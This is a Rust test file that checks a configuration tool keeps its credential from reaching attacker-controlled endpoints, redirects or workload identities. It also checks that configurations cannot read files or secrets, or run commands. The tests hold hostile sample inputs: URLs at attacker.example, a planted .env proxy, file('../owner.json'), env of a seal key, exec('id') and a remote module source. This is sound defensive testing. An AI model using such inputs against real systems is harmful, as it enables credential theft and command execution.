//! Where the credential goes, and what evaluating a configuration can reach.

use std::fs;
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt as _;

use aws_lc_rs::digest;
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::Value;

use super::{account, code, refused_unasked, run, said, tree, writes};
use crate::stage::{Stage, Then, answer};

/// A host of the attacker's, which nobody must ever call.
struct Lure {
    listener: TcpListener,
    url: String,
}

impl Lure {
    fn new() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
        let url = format!("http://{}", listener.local_addr().expect("bound"));
        listener.set_nonblocking(true).expect("set");
        Self { listener, url }
    }

    fn nobody_called(&self, what: &str) {
        assert!(self.listener.accept().is_err(), "{what}: the lure is taken");
    }
}

#[test]
fn plan_reads_the_platform_and_touches_no_file_and_the_others_ask_nobody() {
    let mut stage = Stage::small();
    stage.configure(&account("ci", "[\"viewer\"]"));
    assert_eq!(
        code(&run(&stage, &["plan", "--out", "plan.json", "access"])),
        Some(0)
    );
    // What is in the way of a delivery does not matter to a plan, since it does not look.
    fs::create_dir_all(stage.path("access/credentials/ci.json")).expect("created");
    let before = tree(stage.dir.path());
    stage.front.hook(|_, _| Then::Answer);
    for arguments in [&["validate", "access"][..], &["show", "plan.json"]] {
        assert_eq!(code(&run(&stage, arguments)), Some(0), "{arguments:?}");
        assert!(stage.front.seen().is_empty(), "{arguments:?} asks nobody");
    }
    for arguments in [
        &["plan", "access"][..],
        &["list", "access"],
        &["check", "access"],
    ] {
        let output = run(&stage, arguments);
        assert!(
            matches!(code(&output), Some(0 | 2 | 6)),
            "{}",
            said(&output)
        );
    }
    assert!(!stage.front.seen().is_empty());
    assert_eq!(writes(&stage), [""; 0]);
    assert!(before == tree(stage.dir.path()), "no file is touched");
}

#[test]
fn the_configuration_names_another_endpoint() {
    let mut stage = Stage::small();
    let lure = Lure::new();
    for block in [
        format!("endpoint = \"{}\"", lure.url),
        format!(
            "endpoint = \"{}\"",
            lure.url.replace("127.0.0.1", "localhost")
        ),
        "endpoint = \"https://us.api.mondoo.com.attacker.example\"".to_owned(),
        "region = \"eu\"".to_owned(),
        "region = \"eu.attacker.example/\"".to_owned(),
        "endpoint = \"http://attacker.example\"".to_owned(),
        "endpoint = \"https://us.api.mondoo.com@attacker.example\"".to_owned(),
    ] {
        stage.configure(&format!(
            "platform {{\n  {block}\n}}\n\n{}",
            account("ci", "[\"viewer\"]")
        ));
        for arguments in [&["plan", "access"][..], &["apply", "--yes", "access"]] {
            refused_unasked(&stage, arguments, &block);
            lure.nobody_called(&block);
        }
    }
}

#[test]
fn files_beside_the_configuration_name_no_endpoint_and_no_credential() {
    let mut stage = Stage::small();
    let lure = Lure::new();
    stage.configure(&account("ci", "[\"viewer\"]"));
    let owner = fs::read_to_string(stage.path("owner.json")).expect("there");
    let stolen = owner.replace(&stage.front.url(), &lure.url);
    assert_ne!(owner, stolen);
    for name in [
        "mondoo.yml",
        ".mondoo.yml",
        ".config/mondoo/mondoo.yml",
        "owner.json",
        ".rolecall/owner.json",
    ] {
        let path = stage.path("access").join(name);
        fs::create_dir_all(path.parent().expect("a folder")).expect("created");
        fs::write(path, &stolen).expect("written");
    }
    let environment = format!("MONDOO_API_ENDPOINT={0}\nHTTPS_PROXY={0}\n", lure.url);
    fs::write(stage.path("access/.env"), environment).expect("written");
    assert_eq!(code(&run(&stage, &["plan", "access"])), Some(0));
    lure.nobody_called("files beside the configuration");
    assert!(!stage.front.seen().is_empty());
}

#[test]
fn a_credential_never_travels_in_plain_text() {
    let mut stage = Stage::small();
    stage.configure(&account("ci", "[\"viewer\"]"));
    let far = "http://192.0.2.1";
    let text = refused_unasked(&stage, &["plan", "--endpoint", far, "access"], "a flag");
    assert!(text.contains("https"), "{text}");
    let owner = fs::read_to_string(stage.path("owner.json")).expect("there");
    fs::write(
        stage.path("owner.json"),
        owner.replace(&stage.front.url(), far),
    )
    .expect("written");
    let text = refused_unasked(&stage, &["plan", "access"], "the credential's own");
    assert!(text.contains("https"), "{text}");
}

#[test]
fn a_redirect_is_not_followed() {
    for status in [301, 302, 303, 307, 308] {
        let mut stage = Stage::small();
        let lure = Lure::new();
        stage.configure(&account("ci", "[\"viewer\"]"));
        let to = format!("{}/query", lure.url);
        stage
            .front
            .hook(move |_, _| Then::Send(answer(status, &[("Location", &to)], "{}")));
        let output = run(&stage, &["apply", "--yes", "access"]);
        assert_eq!(code(&output), Some(1), "{}", said(&output));
        lure.nobody_called(&status.to_string());
        assert_eq!(writes(&stage), [""; 0]);
    }
}

/// A token that somebody captured is good for one body, and for a minute.
#[test]
fn every_request_is_signed_for_its_own_body() {
    let mut stage = Stage::small();
    stage.configure(&account("ci", "[\"viewer\"]"));
    assert_eq!(code(&run(&stage, &["apply", "--yes", "access"])), Some(0));
    let requests = stage.front.requests();
    assert!(requests.len() > 10, "a birth takes more: {requests:?}");
    for (authorization, body) in requests {
        let token = authorization.expect("signed");
        let claims = token
            .strip_prefix("Bearer ")
            .and_then(|t| t.split('.').nth(1));
        let claims = URL_SAFE_NO_PAD
            .decode(claims.expect("claims"))
            .expect("base64");
        let claims: Value = serde_json::from_slice(&claims).expect("JSON");
        let hash: String = digest::digest(&digest::SHA256, &body)
            .as_ref()
            .iter()
            .map(|byte| format!("{byte:02x}"))
            .collect();
        assert_eq!(claims["chash"], hash.as_str());
        let at = |claim: &str| claims[claim].as_i64().expect("a time");
        assert!(at("exp") - at("iat") <= 60, "{claims}");
    }
}

/// Its token would go to an address that the file names.
#[test]
fn a_workload_identity_is_refused_whatever_it_names() {
    let mut stage = Stage::small();
    let lure = Lure::new();
    stage.configure(&account("ci", "[\"viewer\"]"));
    let identity = serde_json::json!({
        "type": "external_account",
        "universeDomain": lure.url,
        "audience": "//iam.api.mondoo.app/x",
        "subjectToken": "eyJhbGciOi",
    });
    let path = stage.path("owner.json");
    fs::write(&path, identity.to_string()).expect("written");
    fs::set_permissions(&path, fs::Permissions::from_mode(0o600)).expect("changed");
    let text = refused_unasked(&stage, &["plan", "access"], "workload identity");
    assert!(text.contains("workload identity"), "{text}");
    assert!(!text.contains("eyJhbGciOi"), "{text}");
    lure.nobody_called("workload identity");
}

#[test]
fn no_function_reaches_files_the_environment_the_clock_or_a_command() {
    let mut stage = Stage::small();
    for call in [
        "file(\"../owner.json\")",
        "filebase64(\"../owner.json\")",
        "filesha256(\"../owner.json\")",
        "fileexists(\"../owner.json\")",
        "fileset(\".\", \"**\")",
        "templatefile(\"../owner.json\", {})",
        "pathexpand(\"~\")",
        "abspath(\".\")",
        "env(\"ROLECALL_SEAL_KEY\")",
        "getenv(\"ROLECALL_SEAL_KEY\")",
        "get_env(\"ROLECALL_SEAL_KEY\")",
        "timestamp()",
        "uuid()",
        "run_cmd(\"id\")",
        "exec(\"id\")",
        "http(\"http://attacker.example\")",
    ] {
        stage.configure(&format!("locals {{\n  stolen = {call}\n}}\n"));
        for arguments in [&["validate", "access"][..], &["plan", "access"]] {
            let text = refused_unasked(&stage, arguments, call);
            assert!(text.contains("[unknown-function]"), "{text}");
        }
    }
    for block in [
        "sink \"exec\" \"x\" {\n  command = [\"id\"]\n}\n",
        "data \"external\" \"x\" {\n  program = [\"id\"]\n}\n",
        "data \"http\" \"x\" {\n  url = \"http://attacker.example\"\n}\n",
        "module \"x\" {\n  source = \"http://attacker.example\"\n}\n",
        "provisioner \"local-exec\" {\n  command = \"id\"\n}\n",
    ] {
        stage.configure(block);
        refused_unasked(&stage, &["apply", "--yes", "access"], block);
    }
}
